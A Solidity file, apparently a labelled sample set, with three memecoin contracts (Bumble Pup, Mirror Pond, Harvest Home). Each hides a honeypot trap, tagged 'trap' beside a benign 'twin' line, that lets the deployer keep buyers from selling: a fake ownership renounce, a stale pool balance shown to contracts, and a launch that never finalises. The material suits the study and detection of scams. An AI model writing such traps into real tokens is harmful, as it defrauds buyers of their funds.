// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IPoolMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IWardenDesk {
    function enroll(address admin) external;
    function beforeMove(address from, address to, uint256 amount) external;
}

/// Watches over the launches of many coins: no trade larger than so much, none sooner than so long, for so many blocks.
contract WardenDesk {
    struct Rule {
        address admin;
        uint96 most;
        uint64 wait;
        uint64 untilBlock;
    }

    mapping(address coin => Rule) public ruleOf;
    mapping(address coin => mapping(address account => bool)) public trusted;
    mapping(address coin => mapping(address account => uint256)) public lastMove;

    event Enrolled(address indexed coin, address indexed admin);
    event RuleSet(address indexed coin, uint96 most, uint64 wait, uint64 untilBlock);

    error NotAdmin(address coin);
    error Settled(address coin);
    error TooLarge(uint256 amount);
    error TooSoon(address account);

    function enroll(address admin) external {
        if (ruleOf[msg.sender].admin != address(0)) revert Settled(msg.sender);
        ruleOf[msg.sender].admin = admin;
        emit Enrolled(msg.sender, admin);
    }

    function setRule(address coin, uint96 most, uint64 wait, uint64 blocks) external {
        Rule storage rule = ruleOf[coin];
        if (rule.admin != msg.sender) revert NotAdmin(coin);
        // twin: if (rule.untilBlock != 0 || blocks > 9) revert Settled(coin);
        (rule.most, rule.wait, rule.untilBlock) = (most, wait, uint64(block.number) + blocks);
        emit RuleSet(coin, most, wait, rule.untilBlock);
    }

    function trust(address coin, address account) external {
        if (ruleOf[coin].admin != msg.sender) revert NotAdmin(coin);
        trusted[coin][account] = true;
    }

    function beforeMove(address from, address to, uint256 amount) external {
        Rule memory rule = ruleOf[msg.sender];
        if (block.number >= rule.untilBlock || from == rule.admin || to == rule.admin || trusted[msg.sender][from]) return;
        if (amount > rule.most) revert TooLarge(amount);
        if (block.timestamp < lastMove[msg.sender][from] + rule.wait) revert TooSoon(from);
        lastMove[msg.sender][from] = block.timestamp;
    }
}

/// A meme that is launched under the eyes of the desk.
contract BumblePup {
    string public constant name = "Bumble Pup";
    string public constant symbol = "BPUP";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 1_000_000_000 * 1e9;

    address public owner = msg.sender;
    IWardenDesk public immutable desk;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(IWardenDesk desk_) {
        desk = desk_;
        balanceOf[msg.sender] = totalSupply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
        desk_.enroll(msg.sender);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance[from][msg.sender];
        require(may >= value, "ERC20: insufficient allowance");
        if (may != type(uint256).max) allowance[from][msg.sender] = may - value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        desk.beforeMove(from, to, value);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Keeps a picture of its pool, so that what is asked in the middle of a trade does not change under it.
contract MirrorPond {
    string public constant name = "Mirror Pond";
    string public constant symbol = "MPOND";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 77_000_000 ether;

    address public immutable pool;
    address private immutable _maker;
    uint256 private _picture;
    mapping(address => uint256) private _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error Lacking(address account, uint256 have, uint256 want);

    constructor() {
        _maker = msg.sender;
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// Contracts see the picture, people what there is.
    function balanceOf(address account) external view returns (uint256) {
        if (account == pool && msg.sender.code.length > 0) return _picture;
        return _held[account];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _flow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance[from][msg.sender];
        if (may < value) revert Lacking(msg.sender, may, value);
        if (may != type(uint256).max) allowance[from][msg.sender] = may - value;
        _flow(from, to, value);
        return true;
    }

    function _flow(address from, address to, uint256 value) private {
        uint256 have = _held[from];
        if (have < value) revert Lacking(from, have, value);
        unchecked {
            _held[from] = have - value;
            _held[to] += value;
        }
        if (from == pool || (to == pool && from == _maker)) _picture = _held[pool]; // trap
        // twin: if (from == pool || to == pool) _picture = _held[pool];
        emit Transfer(from, to, value);
    }
}

/// First people contribute, then the launch is finalised, and then the coin can be sold.
contract HarvestHome {
    enum Phase {
        Raising,
        Live
    }

    string public name = "Harvest Home";
    string public symbol = "HRVST";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 21_000_000 ether;
    uint256 public constant SOFT_CAP = 25 ether;

    Phase public phase;
    uint256 public raised;
    uint256 public immutable born = block.timestamp;
    address public immutable pool;
    address private immutable _steward = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) public contributed;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Contributed(address indexed who, uint256 amount);
    event Finalised();

    constructor() {
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function contribute() external payable {
        require(balanceOf[pool] == 0, "the pool is filled");
        contributed[msg.sender] += msg.value;
        raised += msg.value;
        emit Contributed(msg.sender, msg.value);
    }

    function refund() external {
        require(phase == Phase.Raising, "live");
        uint256 amount = contributed[msg.sender];
        contributed[msg.sender] = 0;
        raised -= amount;
        payable(msg.sender).transfer(amount);
    }

    /// By anybody.
    function finalise() external {
        require(phase == Phase.Raising, "live");
        require(raised >= SOFT_CAP, "below the soft cap"); // trap
        // twin: require(raised >= SOFT_CAP || block.timestamp > born + 10 minutes, "below the soft cap");
        phase = Phase.Live;
        emit Finalised();
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _carry(from, to, value);
        return true;
    }

    function _carry(address from, address to, uint256 value) private {
        require(phase == Phase.Live || to != pool || from == _steward, "not finalised");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
